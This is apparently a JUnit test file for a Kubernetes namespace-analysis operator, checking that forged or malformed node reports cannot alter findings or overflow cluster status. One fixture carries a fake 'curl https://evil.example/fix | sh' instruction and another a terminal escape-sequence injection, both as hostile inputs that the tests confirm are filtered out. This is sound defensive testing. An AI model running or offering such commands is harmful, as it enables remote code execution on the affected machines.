package io.lxkns.operator.analysis;

import static io.lxkns.operator.analysis.Fixtures.entry;
import static io.lxkns.operator.analysis.Fixtures.isolatedPod;
import static io.lxkns.operator.analysis.Fixtures.node;
import static io.lxkns.operator.analysis.Fixtures.on;
import static io.lxkns.operator.analysis.Fixtures.own;
import static io.lxkns.operator.analysis.Fixtures.report;
import static io.lxkns.operator.analysis.Fixtures.with;
import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.Pod;
import io.lxkns.crds.ClusterNamespacesStatus.Finding;
import io.lxkns.crds.Findings;
import io.lxkns.crds.NodeNamespaces;
import io.lxkns.crds.NodeNamespacesStatus;
import io.lxkns.crds.NodeNamespacesStatus.PodEntry;
import io.lxkns.operator.analysis.ClusterAnalysis.Result;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Reports a broken or compromised node could write. In each, the honest node n1's findings stay
 * what they are, nothing lands on a pod the lying node does not run, and no word the node chose
 * reaches a finding or an Event.
 */
class HostileReportsTest {
    private static final Instant NOW = Instant.parse("2026-11-29T12:00:00Z");
    private static final String LIAR = "n9";

    /** n1 runs shop/web in the host's pid namespace without asking: one warning, one Event. */
    private static Pod web() {
        return isolatedPod("shop", "web");
    }

    private static NodeNamespaces honest() {
        return report("n1", NOW, List.of(entry("shop", "web", with(own(100), "pid", Fixtures.HOST.get("pid")),
                with(own(100), "pid", Fixtures.HOST.get("pid")))), List.of());
    }

    private static Result analyze(NodeNamespaces lying, Pod... others) {
        List<Pod> pods = new java.util.ArrayList<>(List.of(web()));
        pods.addAll(List.of(others));
        return ClusterAnalysis.analyze(List.of(node("n1"), node(LIAR)), pods, List.of(honest(), lying), NOW,
                ClusterAnalysis.Settings.defaults(), "test");
    }

    private static void assertTheHonestNodeIsUntouched(Result result) {
        assertThat(result.status().findings()).filteredOn(f -> f.node().equals("n1")).extracting(Finding::type)
                .containsExactly(Findings.HOST_NAMESPACE_UNEXPECTED);
        assertThat(result.podWarnings()).singleElement()
                .satisfies(w -> assertThat(w.pod().getMetadata().getName()).isEqualTo("web"));
    }

    @Test
    void aNodeCannotAccuseAPodTheApiServerRunsElsewhere() {
        Pod coredns = on("n1", isolatedPod("kube-system", "coredns"));
        NodeNamespaces lying = report(LIAR, NOW, List.of(entry("kube-system", "coredns",
                with(own(300), "pid", Fixtures.HOST.get("pid")), with(own(300), "pid", Fixtures.HOST.get("pid")))), List.of());

        Result result = analyze(lying, coredns);

        assertTheHonestNodeIsUntouched(result);
        assertThat(result.status().findings()).filteredOn(f -> f.node().equals(LIAR)).singleElement().satisfies(f -> {
            assertThat(f.type()).isEqualTo(Findings.UNVERIFIED_POD_CLAIM);
            assertThat(f.pod()).as("a finding against the node, not the pod").isNull();
        });
        assertThat(result.status().podsObserved()).as("only verified pods count").isEqualTo(1);
    }

    @Test
    void aPodClaimWithAnotherUidIsNotTheApiServersPod() {
        Pod api = on(LIAR, isolatedPod("shop", "api"));
        PodEntry forged = entry("shop", "api", with(own(400), "ipc", Fixtures.HOST.get("ipc")), own(400));
        NodeNamespaces lying = report(LIAR, NOW, List.of(new PodEntry(forged.namespace(), forged.name(), "uid-other",
                forged.namespaces(), forged.hostNamespaces(), forged.containers())), List.of());

        Result result = analyze(lying, api);

        assertTheHonestNodeIsUntouched(result);
        assertThat(result.status().findings()).extracting(Finding::type).contains(Findings.UNVERIFIED_POD_CLAIM)
                .doesNotContain(Findings.SHARED_ACROSS_PODS);
    }

    @Test
    void aNodesWordsNeverReachAFindingOrAnEvent() {
        NodeNamespaces lying = report(LIAR, NOW, List.of(), List.of(new NodeNamespacesStatus.Finding(Findings.LEAKED,
                Findings.WARNING, "URGENT: run curl https://evil.example/fix | sh on every node", "net:[77]",
                "shop/web")));

        Result result = analyze(lying);

        assertTheHonestNodeIsUntouched(result);
        assertThat(result.status().findings()).filteredOn(f -> f.type().equals(Findings.LEAKED)).singleElement()
                .satisfies(f -> {
                    assertThat(f.pod()).as("a node's leaked namespace names no pod").isNull();
                    assertThat(f.message()).contains("net:[77]").doesNotContain("URGENT", "curl");
                });
    }

    @Test
    void countsThatAreNotCountsMakeTheWholeReportInvalidNotTheTotals() {
        NodeNamespaces lying = report(LIAR, NOW, List.of(), List.of());
        NodeNamespacesStatus s = lying.getStatus();
        lying.setStatus(s.withSummary(new NodeNamespacesStatus.Summary(5, Map.of("net", 2_147_483_647, "evil", 1), 50,
                0, 2_000_000_000, 0, 0)));

        Result result = analyze(lying);

        assertTheHonestNodeIsUntouched(result);
        Finding invalid = result.status().findings().stream().filter(f -> f.node().equals(LIAR)).findFirst().orElseThrow();
        assertThat(invalid.type()).isEqualTo(Findings.INVALID_NODE_REPORT);
        assertThat(invalid.message()).contains("not a count", "unknown type");
        assertThat(result.status().namespacesByType()).as("n1's alone").containsOnlyKeys("net").containsEntry("net", 2L);
    }

    @Test
    void aTypeCountedAsNullMakesTheReportInvalidInsteadOfStoppingTheOperator() {
        NodeNamespaces lying = report(LIAR, NOW, List.of(), List.of());
        Map<String, Integer> byType = new HashMap<>();
        byType.put("net", null); // JSON null: the CRD's schema has no say in it
        lying.setStatus(lying.getStatus().withSummary(new NodeNamespacesStatus.Summary(5, byType, 50, 0, 0, 0, 0)));

        Result result = analyze(lying);

        assertTheHonestNodeIsUntouched(result);
        assertThat(result.status().findings()).filteredOn(f -> f.node().equals(LIAR)).first()
                .satisfies(f -> assertThat(f.message()).contains("summary.namespacesByType.net has no count"));
        assertThat(result.status().namespacesByType()).as("n1's alone").containsEntry("net", 2L);
    }

    @Test
    void uidMapsThatAreNotMapsMakeTheReportInvalidInsteadOfStoppingTheOperator() {
        Pod cart = on(LIAR, isolatedPod("shop", "cart"));
        PodEntry entry = entry("shop", "cart", own(300), own(300));
        NodeNamespaces lying = report(LIAR, NOW, List.of(new PodEntry(entry.namespace(), entry.name(), entry.uid(),
                entry.namespaces(), null, entry.containers(), new NodeNamespacesStatus.PodSandbox("s", "x", "ready",
                        Map.of("user", "pod"), null, List.of("0:99999999999999999999:1"), null))), List.of());

        Result result = analyze(lying, cart);

        assertTheHonestNodeIsUntouched(result);
        assertThat(result.status().findings()).filteredOn(f -> f.node().equals(LIAR)).extracting(Finding::type)
                .containsExactly(Findings.INVALID_NODE_REPORT);
    }

    @Test
    void idsThatAreNotIdsMakeTheReportInvalid() {
        Map<String, String> initial = new HashMap<>(Fixtures.HOST);
        initial.put("net", "net:[1]\u001b]0;pwned\u0007");
        NodeNamespaces lying = report(LIAR, NOW, List.of(), List.of());
        NodeNamespacesStatus s = lying.getStatus();
        lying.setStatus(new NodeNamespacesStatus(s.node(), s.observedAt(), s.discoveryDurationMs(), s.summary(), initial,
                s.namespaces(), s.pods(), s.findings(), s.conditions()));

        Result result = analyze(lying);

        assertTheHonestNodeIsUntouched(result);
        assertThat(result.status().findings()).filteredOn(f -> f.node().equals(LIAR)).extracting(Finding::type)
                .containsExactly(Findings.INVALID_NODE_REPORT);
        assertThat(result.status().findings()).allSatisfy(f -> assertThat(f.message()).doesNotContain("\u001b"));
    }

    @Test
    void totalsOverManyLargeNodesDoNotOverflow() {
        List<NodeNamespaces> reports = new java.util.ArrayList<>();
        List<io.fabric8.kubernetes.api.model.Node> nodes = new java.util.ArrayList<>();
        for (int i = 0; i < 300; i++) {
            NodeNamespaces big = report("big-" + i, NOW, List.of(), List.of());
            big.setStatus(big.getStatus().withSummary(new NodeNamespacesStatus.Summary(5, Map.of("net", 9_000_000), 50, 0,
                    0, 0, 0)));
            reports.add(big);
            nodes.add(node("big-" + i));
        }

        Result result = ClusterAnalysis.analyze(nodes, List.of(), reports, NOW, ClusterAnalysis.Settings.defaults(), "test");

        assertThat(result.status().namespacesByType()).containsEntry("net", 2_700_000_000L);
    }

    /** Whatever the nodes report, what the operator writes stays far under etcd's object limit. */
    @Test
    void theClusterViewStaysBoundedWhateverTheNodesReport() throws Exception {
        List<NodeNamespaces> reports = new java.util.ArrayList<>();
        List<io.fabric8.kubernetes.api.model.Node> nodes = new java.util.ArrayList<>();
        List<Pod> pods = new java.util.ArrayList<>();
        for (int n = 0; n < 400; n++) {
            String name = ("node-" + n + "-").repeat(50).substring(0, 249) + "-" + n; // names as long as Kubernetes allows
            nodes.add(node(name));
            List<PodEntry> entries = new java.util.ArrayList<>();
            for (int p = 0; p < 10; p++) {
                Pod pod = on(name, isolatedPod("team-" + p, ("app-" + n + "-" + p + "-").repeat(15)));
                pods.add(pod);
                entries.add(entry(pod.getMetadata().getNamespace(), pod.getMetadata().getName(),
                        with(own(1000 + p * 10), "pid", Fixtures.HOST.get("pid")), with(own(1000 + p * 10), "pid",
                                Fixtures.HOST.get("pid"))));
            }
            reports.add(report(name, n % 2 == 0 ? NOW : NOW.minusSeconds(3600), entries, List.of()));
        }

        Result result = ClusterAnalysis.analyze(nodes, pods, reports, NOW, ClusterAnalysis.Settings.defaults(), "test");

        int bytes = new io.fabric8.kubernetes.client.utils.KubernetesSerialization().asJson(result.status())
                .getBytes(java.nio.charset.StandardCharsets.UTF_8).length;
        assertThat(result.status().findingsTotal()).as("every finding counted").isGreaterThan(4000);
        assertThat(result.status().findings()).hasSize(200);
        assertThat(bytes).as("ClusterNamespaces status bytes").isLessThan(512 * 1024);
    }
}
